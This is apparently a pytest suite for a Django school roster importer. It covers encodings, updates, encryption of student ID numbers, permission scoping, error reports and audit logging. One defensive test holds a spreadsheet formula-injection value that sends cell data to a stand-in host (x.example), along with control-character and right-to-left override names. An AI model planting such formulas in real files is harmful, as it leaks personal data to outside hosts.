"""The roster import through the real command and service, with real CSV and XLSX files.

Runs on SQLite and on PostgreSQL (DATABASE_URL): the merge SQL differs per database.
"""

from __future__ import annotations

import csv
import datetime
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from xinqiao.audit.models import AuditEvent
from xinqiao.audit.services import verify_chain
from xinqiao.core.crypto import keyed_hash
from xinqiao.orgs.models import Kind, OrgUnit
from xinqiao.orgs.services import create_term
from xinqiao.people.importer import files
from xinqiao.people.models import (
    Enrolment,
    Guardian,
    GuardianRelation,
    ImportJob,
    Student,
    StudentStatus,
)
from xinqiao.people.search import number_hash

from ..factories import two_schools, with_personas
from .roster_files import HEADERS, id_number, student_row, write_csv, write_xlsx


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.LANGUAGE_CODE = "en"


@pytest.fixture
def schools(db):
    """Two schools (a student per class, so re-imports meet existing students in and out of
    scope), the term, and the users the command runs as: school A's admin, 甲区's admin, and a
    psychology teacher who may not import."""
    return with_personas(two_schools(), "school_admin", "district_admin", "psych")


def run(path: Path, *args: str) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("import_roster", str(path), *args, "--language", "en", stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def last_line(out: str) -> str:
    return out.strip().splitlines()[-1]


def counts() -> tuple[int, int, int, int, int]:
    return (
        Student.objects.count(),
        Enrolment.objects.count(),
        Guardian.objects.count(),
        OrgUnit.objects.count(),
        AuditEvent.objects.count(),
    )


def report_rows(job: ImportJob) -> list[dict[str, str]]:
    raw = files.read(job.error_report)  # sealed at rest
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so Excel reads UTF-8
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def last_job() -> ImportJob:
    return ImportJob.objects.latest("id")


def rows(n: int, **kw) -> list[dict[str, str]]:
    return [student_row(i, **kw) for i in range(1, n + 1)]


# --- created / updated / unchanged ---------------------------------------------------------------
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk"])
def test_csv_in_each_encoding_creates_students(schools, tmp_path, encoding):
    path = write_csv(tmp_path / "roster.csv", rows(5), encoding=encoding)

    out, _err = run(path)

    assert last_line(out) == "created=5 updated=0 unchanged=0 rejected=0"
    student = Student.objects.get(student_number_hash=number_hash(student_row(3)["全国学籍号"]))
    assert student.name == "学生3"
    assert student.gender == "M"
    assert student.birth_date == datetime.date(2013, 3, 1)
    assert student.school_class == schools.class_a1
    assert student.school == schools.school_a
    assert student.id_number == student_row(3)["身份证件号"]
    assert student.id_number_hash == keyed_hash(student_row(3)["身份证件号"])
    guardian = student.guardians.get()
    assert (guardian.name, guardian.relation, guardian.phone, guardian.is_primary) == (
        "家长3",
        GuardianRelation.MOTHER,
        "13800000003",
        True,
    )
    assert Enrolment.objects.get(student=student).term == schools.term


def test_id_number_and_student_number_are_stored_encrypted(schools, tmp_path):
    from django.db import connection

    run(write_csv(tmp_path / "roster.csv", rows(1)))
    row = student_row(1)
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT * FROM people_student WHERE student_number_hash = %s",
            [number_hash(row["全国学籍号"])],
        )
        stored = cursor.fetchone()
        names = [c[0] for c in cursor.description]
        cursor.execute("SELECT * FROM people_guardian")
        guardian = cursor.fetchone()
    columns = dict(zip(names, stored, strict=True))
    assert columns["id_number"].startswith("v2:aes:")
    assert columns["student_number"].startswith("v2:aes:")
    # Neither the number, nor the ID number it embeds, nor its tail, nor the phone, anywhere.
    text = " ".join(str(v) for v in [*stored, *guardian])
    for secret in (row["全国学籍号"], row["身份证件号"], row["全国学籍号"][-6:]):
        assert secret not in text
    assert row["监护人电话"] not in text
    assert Student.objects.get(pk=columns["id"]).student_number == row["全国学籍号"]


def test_xlsx_import_with_date_cells(schools, tmp_path):
    path = write_xlsx(tmp_path / "roster.xlsx", rows(4))

    out, _err = run(path)

    assert last_line(out) == "created=4 updated=0 unchanged=0 rejected=0"
    assert Student.objects.get(
        student_number_hash=number_hash(student_row(2)["全国学籍号"])
    ).birth_date == (datetime.date(2013, 3, 1))


def test_reimport_changes_nothing(schools, tmp_path):
    path = write_csv(tmp_path / "roster.csv", rows(6))
    run(path)
    before = counts()
    updated_at = dict(Student.objects.values_list("student_number_hash", "updated_at"))

    out, _err = run(path)

    assert last_line(out) == "created=0 updated=0 unchanged=6 rejected=0"
    after = counts()
    # Only the job's own "finished" event is new; no chunk event (nothing was written).
    assert after[:4] == before[:4]
    assert after[4] == before[4] + 1
    assert dict(Student.objects.values_list("student_number_hash", "updated_at")) == updated_at


def test_reimport_xlsx_of_same_rows_changes_nothing(schools, tmp_path):
    run(write_csv(tmp_path / "roster.csv", rows(3)))

    out, _err = run(write_xlsx(tmp_path / "roster.xlsx", rows(3)))

    assert last_line(out) == "created=0 updated=0 unchanged=3 rejected=0"


def test_changed_fields_are_updated(schools, tmp_path):
    run(write_csv(tmp_path / "roster.csv", rows(3)))
    changed = rows(3)
    changed[0]["姓名"] = "新名字"
    changed[1]["监护人电话"] = "13912345678"
    changed[2]["留守儿童"] = "是"

    out, _err = run(write_csv(tmp_path / "changed.csv", changed))

    assert last_line(out) == "created=0 updated=3 unchanged=0 rejected=0"
    assert (
        Student.objects.get(student_number_hash=number_hash(changed[0]["全国学籍号"])).name
        == "新名字"
    )
    assert Guardian.objects.get(
        student__student_number_hash=number_hash(changed[1]["全国学籍号"])
    ).phone == ("13912345678")
    assert (
        Student.objects.get(student_number_hash=number_hash(changed[2]["全国学籍号"])).left_behind
        is True
    )


def test_existing_student_of_fixture_is_updated_not_duplicated(schools, tmp_path):
    row = student_row(1)
    row.update(
        {
            "全国学籍号": schools.stu_a1.student_number,
            "姓名": "王小明",
            "身份证件号": schools.stu_a1.id_number,
            "班级": "七(2)班",
        }
    )

    out, _err = run(write_csv(tmp_path / "roster.csv", [row]))

    assert last_line(out) == "created=0 updated=1 unchanged=0 rejected=0"
    schools.stu_a1.refresh_from_db()
    assert schools.stu_a1.school_class == schools.class_a2
    assert (
        Student.objects.filter(
            student_number_hash=number_hash(schools.stu_a1.student_number)
        ).count()
        == 1
    )


def test_class_change_becomes_enrolment_history(schools, tmp_path):
    run(write_csv(tmp_path / "autumn.csv", rows(2)))
    spring = create_term(
        actor=None,
        school_year_start=2026,
        season="spring",
        start_date=datetime.date(2027, 2, 20),
        end_date=datetime.date(2027, 7, 10),
        make_current=True,
    )
    moved = rows(2)
    moved[0]["班级"] = "七(2)班"

    out, _err = run(write_csv(tmp_path / "spring.csv", moved), "--term", spring.code)

    # Row 1 moved class; row 2 gets its enrolment for the new term (also a change).
    assert last_line(out) == "created=0 updated=2 unchanged=0 rejected=0"
    student = Student.objects.get(student_number_hash=number_hash(moved[0]["全国学籍号"]))
    assert student.school_class == schools.class_a2
    history = {e.term.code: e.school_class for e in student.enrolments.all()}
    assert history == {schools.term.code: schools.class_a1, spring.code: schools.class_a2}


def test_import_of_a_past_term_keeps_the_current_class(schools, tmp_path):
    past = create_term(
        actor=None,
        school_year_start=2025,
        season="spring",
        start_date=datetime.date(2026, 2, 20),
        end_date=datetime.date(2026, 7, 10),
    )
    run(write_csv(tmp_path / "now.csv", rows(1)))
    old = rows(1)
    old[0]["班级"] = "七(2)班"

    run(write_csv(tmp_path / "past.csv", old), "--term", past.code)

    student = Student.objects.get(student_number_hash=number_hash(old[0]["全国学籍号"]))
    assert student.school_class == schools.class_a1
    assert student.enrolments.get(term=past).school_class == schools.class_a2


def test_missing_class_is_created_under_known_grade(schools, tmp_path):
    out, _err = run(write_csv(tmp_path / "roster.csv", rows(2, klass="5")))

    assert last_line(out) == "created=2 updated=0 unchanged=0 rejected=0"
    new = OrgUnit.objects.get(parent=schools.grade_a7, name="七(5)班")
    assert new.kind == Kind.CLASS
    assert new.school == schools.school_a
    assert Student.objects.filter(school_class=new).count() == 2
    assert AuditEvent.objects.filter(action="orgs.unit.created", object_id=str(new.pk)).exists()


@pytest.mark.parametrize(
    ("klass", "expected"),
    [
        ("七(2)班", "class_a2"),
        ("2", "class_a2"),
        ("2班", "class_a2"),
        ("702", "class_a2"),
        ("（2）班", "class_a2"),
    ],
)
def test_class_spellings_match_existing_class(schools, tmp_path, klass, expected):
    run(write_csv(tmp_path / "roster.csv", rows(1, klass=klass)))

    student = Student.objects.get(student_number_hash=number_hash(student_row(1)["全国学籍号"]))
    assert student.school_class == getattr(schools, expected)


@pytest.mark.parametrize("grade", ["七年级", "7", "初一", "7年级"])
def test_grade_spellings(schools, tmp_path, grade):
    out, _err = run(write_csv(tmp_path / "roster.csv", rows(1, grade=grade)))

    assert last_line(out) == "created=1 updated=0 unchanged=0 rejected=0"


def test_aliases_and_other_date_formats(schools, tmp_path, settings):
    settings.XINQIAO_ROSTER_COLUMN_ALIASES = {"guardian_phone": ["紧急联系人手机"]}
    headers = [
        "学籍号",
        "学生姓名",
        "性别",
        "出生年月",
        "证件号码",
        "学校代码",
        "年级",
        "班级",
        "家长姓名",
        "与学生关系",
        "紧急联系人手机",
    ]
    data = []
    for i, birth in enumerate(["2013/3/1", "20130301", "41334", "2013年3月1日"], start=1):
        r = student_row(i)
        data.append(
            {
                "学籍号": r["全国学籍号"],
                "学生姓名": r["姓名"],
                "性别": "F",
                "出生年月": birth,
                "证件号码": r["身份证件号"],
                "学校代码": "3601000001",
                "年级": "七年级",
                "班级": "1",
                "家长姓名": "张三",
                "与学生关系": "父亲",
                "紧急联系人手机": "+86 138 0013 8000",
            }
        )

    out, _err = run(write_csv(tmp_path / "aliases.csv", data, headers=headers))

    assert last_line(out) == "created=4 updated=0 unchanged=0 rejected=0"
    assert set(
        Student.objects.filter(name__startswith="学生").values_list("birth_date", flat=True)
    ) == {datetime.date(2013, 3, 1)}
    assert {(g.phone, g.relation) for g in Guardian.objects.filter(name="张三")} == {
        ("13800138000", GuardianRelation.FATHER)
    }


def test_status_and_family_flags(schools, tmp_path):
    headers = [*HEADERS, "孤儿/事实无人抚养", "残疾", "低保/低收入", "随迁子女"]
    r = student_row(1)
    r.update(
        {
            "学籍状态": "休学",
            "单亲家庭": "是",
            "孤儿/事实无人抚养": "否",
            "残疾": "√",
            "低保/低收入": "1",
            "随迁子女": "是",
            "留守儿童": "",
        }
    )

    run(write_csv(tmp_path / "roster.csv", [r], headers=headers))

    s = Student.objects.get(student_number_hash=number_hash(r["全国学籍号"]))
    assert s.status == StudentStatus.SUSPENDED
    assert (
        s.left_behind,
        s.single_parent,
        s.orphan_or_unsupported,
        s.disability,
        s.low_income,
        s.migrant,
    ) == (False, True, False, True, True, True)


def test_file_without_id_column_keeps_stored_id_numbers(schools, tmp_path):
    run(write_csv(tmp_path / "full.csv", rows(1)))
    headers = [h for h in HEADERS if h != "身份证件号"]

    out, _err = run(write_csv(tmp_path / "noid.csv", rows(1), headers=headers))

    assert last_line(out) == "created=0 updated=0 unchanged=1 rejected=0"
    assert (
        Student.objects.get(student_number_hash=number_hash(student_row(1)["全国学籍号"])).id_number
        == (student_row(1)["身份证件号"])
    )


# --- bad rows ------------------------------------------------------------------------------------
def test_bad_rows_are_reported_and_good_rows_go_in(schools, tmp_path):
    data = rows(8)
    data[1]["全国学籍号"] = "G123"  # row 3
    good_id = data[2]["身份证件号"]
    data[2]["身份证件号"] = good_id[:-1] + ("0" if good_id[-1] != "0" else "1")  # row 4
    data[3]["监护人电话"] = "12345"  # row 5
    data[4]["年级"] = "十年级"  # row 6
    data[5]["学校标识码"] = "3601000002"  # row 7: school B, outside school A admin's scope
    data[6]["性别"] = "未知"  # row 8

    out, err = run(write_csv(tmp_path / "roster.csv", data), "--as", "school_admin_a")

    assert last_line(out) == "created=2 updated=0 unchanged=0 rejected=6"
    assert "Error report" in err
    job = ImportJob.objects.get(original_name="roster.csv")
    assert job.created_by == schools.school_admin
    report = report_rows(job)
    got = [(r["Row"], r["Column"]) for r in report]
    assert got == [
        ("3", "全国学籍号"),
        ("4", "身份证件号"),
        ("5", "监护人电话"),
        ("6", "年级"),
        ("7", "学校标识码"),
        ("8", "性别"),
    ]
    reasons = {r["Row"]: r["Reason"] for r in report}
    assert "not a valid national student number" in reasons["3"]
    assert "check digit" in reasons["4"]
    assert "mainland mobile" in reasons["5"]
    assert "十年级" in reasons["6"]
    assert "乙区第二中学" in reasons["7"]
    # The original row is in the report, so it can be fixed and imported again.
    assert report[0]["全国学籍号"] == "G123"
    assert report[0]["姓名"] == "学生2"
    assert Student.objects.filter(name__startswith="学生").count() == 2
    assert not Student.objects.filter(school=schools.school_b, name__startswith="学生").exists()


def test_names_with_control_characters_are_rejected_and_the_report_runs_no_formula(
    schools, tmp_path
):
    data = rows(3)
    data[0]["姓名"] = "学生\x07一"  # row 2: a control character
    data[1]["监护人姓名"] = "家长\u202e二"  # row 3: a right-to-left override in the guardian
    data[2]["姓名"] = '=HYPERLINK("http://x.example/?"&A1,"点击")'  # row 4, with a bad gender
    data[2]["性别"] = "?"

    out, _err = run(write_csv(tmp_path / "roster.csv", data), "--as", "school_admin_a")

    assert last_line(out) == "created=0 updated=0 unchanged=0 rejected=3"
    report = report_rows(last_job())
    assert [(r["Row"], r["Column"]) for r in report] == [
        ("2", "姓名"),
        ("3", "监护人姓名"),
        ("4", "性别"),
    ]
    assert report[2]["姓名"] == "'" + data[2]["姓名"]  # shown as text in a spreadsheet
    # Fixed and imported again, the neutralised cell reads as typed.
    fixed = [{**report[2], "性别": "男"}]
    fixed[0] = {k: v for k, v in fixed[0].items() if k in HEADERS}
    out, _err = run(write_csv(tmp_path / "fixed.csv", fixed), "--as", "school_admin_a")
    assert last_line(out) == "created=1 updated=0 unchanged=0 rejected=0"
    assert Student.objects.filter(name=data[2]["姓名"]).exists()


def test_error_report_is_in_the_users_language(schools, tmp_path):
    data = rows(1)
    data[0]["性别"] = "?"
    out, _err = StringIO(), StringIO()
    call_command(
        "import_roster",
        str(write_csv(tmp_path / "r.csv", data)),
        "--language",
        "zh-hans",
        stdout=out,
        stderr=_err,
    )
    job = last_job()
    assert job.language == "zh-hans"
    header = files.read(job.error_report).decode("utf-8-sig").splitlines()[0]
    # Translated once the zh-hans catalogue is compiled; the English source until then.
    assert header.split(",")[:3] in (["行号", "列", "原因"], ["Row", "Column", "Reason"])


def test_duplicate_student_number_in_file_is_rejected(schools, tmp_path):
    data = [student_row(1), student_row(2), student_row(1, name="重复")]

    out, _err = run(write_csv(tmp_path / "roster.csv", data))

    assert last_line(out) == "created=2 updated=0 unchanged=0 rejected=1"
    report = report_rows(last_job())
    assert report[0]["Row"] == "4"
    assert "row 2" in report[0]["Reason"]


def test_existing_student_of_a_school_out_of_scope_is_not_taken_over(schools, tmp_path):
    row = student_row(1)
    row.update(
        {
            "全国学籍号": schools.stu_b1.student_number,
            "身份证件号": schools.stu_b1.id_number,
            "姓名": "冒名",
        }
    )

    out, _err = run(
        write_csv(tmp_path / "roster.csv", [row, student_row(2)]), "--as", "school_admin_a"
    )

    assert last_line(out) == "created=1 updated=0 unchanged=0 rejected=1"
    schools.stu_b1.refresh_from_db()
    assert (schools.stu_b1.name, schools.stu_b1.school) == ("赵小刚", schools.school_b)
    report = report_rows(last_job())
    assert report[0]["Row"] == "2"
    assert "乙区第二中学" in report[0]["Reason"]


def test_district_admin_may_import_into_any_school_of_the_district(schools, tmp_path):
    out, _err = run(write_csv(tmp_path / "roster.csv", rows(2)), "--as", "district_admin_a")

    assert last_line(out) == "created=2 updated=0 unchanged=0 rejected=0"


def test_school_option_limits_rows_to_that_school(schools, tmp_path):
    data = rows(2)
    data[1]["学校标识码"] = "3601000002"
    data[1]["年级"] = "七年级"

    out, _err = run(write_csv(tmp_path / "roster.csv", data), "--school", "3601000001")

    assert last_line(out) == "created=1 updated=0 unchanged=0 rejected=1"


def test_file_without_school_column_needs_school_option(schools, tmp_path):
    headers = [h for h in HEADERS if h not in ("学校标识码", "学校名称")]
    path = write_csv(tmp_path / "roster.csv", rows(2), headers=headers)

    out, _err = run(path, "--school", str(schools.school_a.code))

    assert last_line(out) == "created=2 updated=0 unchanged=0 rejected=0"


def test_user_without_import_capability_is_refused(schools, tmp_path):
    with pytest.raises(CommandError, match="may not import"):
        run(write_csv(tmp_path / "roster.csv", rows(1)), "--as", "psych_a")
    assert not Student.objects.filter(name__startswith="学生").exists()


# --- bad files ------------------------------------------------------------------------------------
def _bad_file(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"bad-{kind}.csv"
    if kind == "missing-column":
        write_csv(path, rows(3), headers=[h for h in HEADERS if h != "姓名"])
    elif kind == "garbage":
        path.write_bytes(bytes(range(256)) * 64)
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "broken-xlsx":
        path = tmp_path / "broken.xlsx"
        path.write_bytes(b"PK\x03\x04" + b"\x00garbage" * 100)
    elif kind == "header-only-blank":
        path.write_bytes(b"\n\n\n")
    return path


@pytest.mark.parametrize(
    "kind", ["missing-column", "garbage", "empty", "broken-xlsx", "header-only-blank"]
)
def test_bad_file_changes_nothing_and_exits_non_zero(schools, tmp_path, kind):
    path = _bad_file(tmp_path, kind)
    before = counts()

    with pytest.raises(SystemExit) as exc:
        run(path)

    assert exc.value.code == 1
    assert counts() == before
    job = ImportJob.objects.get(original_name=path.name)
    assert job.status == "failed"
    assert job.error_message


def test_missing_column_message_names_it(schools, tmp_path):
    with pytest.raises(SystemExit):
        run(_bad_file(tmp_path, "missing-column"))
    assert "姓名" in last_job().error_message


def test_command_subprocess_exit_code_and_last_line(schools, tmp_path):
    """The same through call_command's SystemExit as a shell would see: status 1, counts line."""
    out = StringIO()
    with pytest.raises(SystemExit):
        call_command(
            "import_roster", str(_bad_file(tmp_path, "empty")), stdout=out, stderr=StringIO()
        )
    assert last_line(out.getvalue()) == "created=0 updated=0 unchanged=0 rejected=0"


# --- dry run and audit ----------------------------------------------------------------------------
def test_dry_run_writes_nothing_but_counts(schools, tmp_path):
    data = rows(4, klass="9")  # would also create class 七(9)班
    data[3]["性别"] = "x"
    before = counts()

    out, err = run(write_csv(tmp_path / "roster.csv", data), "--dry-run")

    assert last_line(out) == "created=3 updated=0 unchanged=0 rejected=1"
    assert "Dry run" in err
    assert counts() == before
    assert last_job().dry_run is True


def test_dry_run_of_an_existing_roster_counts_updates(schools, tmp_path):
    run(write_csv(tmp_path / "roster.csv", rows(3)))
    changed = rows(3)
    changed[0]["姓名"] = "改名"
    before = counts()

    out, _err = run(write_csv(tmp_path / "changed.csv", changed), "--dry-run")

    assert last_line(out) == "created=0 updated=1 unchanged=2 rejected=0"
    assert counts() == before
    assert (
        Student.objects.get(student_number_hash=number_hash(changed[0]["全国学籍号"])).name
        == "学生1"
    )


def test_audit_events_per_chunk_and_job_and_chain_intact(schools, tmp_path, settings):
    settings.XINQIAO_ROSTER_CHUNK_ROWS = 4
    run(write_csv(tmp_path / "roster.csv", rows(10)), "--as", "school_admin_a")

    chunks = list(AuditEvent.objects.filter(action="people.roster.imported").order_by("seq"))
    assert [e.fields["created"] for e in chunks] == [4, 4, 2]
    assert all(e.actor_id == schools.school_admin.pk for e in chunks)
    assert chunks[0].fields["rows"] == [2, 5]
    ids = sorted(Student.objects.filter(name__startswith="学生").values_list("id", flat=True))
    covered = [pk for e in chunks for lo, hi in e.fields["students"] for pk in range(lo, hi + 1)]
    assert sorted(covered) == ids
    # No student number (it contains the ID number) in clear in the log.
    assert student_row(1)["全国学籍号"] not in str([e.fields for e in chunks])
    job_event = AuditEvent.objects.get(action="people.import_job.finished")
    assert job_event.fields["created"] == 10
    assert verify_chain()[0] is True


def test_id_number_birth_place_is_checked_like_the_validator(schools, tmp_path):
    r = student_row(1)
    bad = id_number(datetime.date(2013, 3, 1), 5, region="990000")  # no such region
    r["身份证件号"] = bad

    out, _err = run(write_csv(tmp_path / "roster.csv", [r]))

    assert last_line(out) == "created=0 updated=0 unchanged=0 rejected=1"


def test_the_import_writes_the_search_keys(schools, tmp_path):
    """Picker search keys (people/search.py) come with the imported row and follow a rename."""
    from xinqiao.people.search import id_tail_hash, name_initials, number_tail_hash

    run(write_csv(tmp_path / "roster.csv", rows(2)))
    row = student_row(2)
    student = Student.objects.get(student_number_hash=number_hash(row["全国学籍号"]))
    assert student.name_initials == name_initials("学生2") == "xs2"
    assert student.number_tail_hash == number_tail_hash(row["全国学籍号"])
    assert student.id_tail_hash == id_tail_hash(row["身份证件号"])
    assert student.id_tail_hash
    renamed = [dict(r) for r in rows(2)]
    renamed[1]["姓名"] = "王小明"
    run(write_csv(tmp_path / "renamed.csv", renamed))
    assert Student.objects.get(pk=student.pk).name_initials == "wxm"
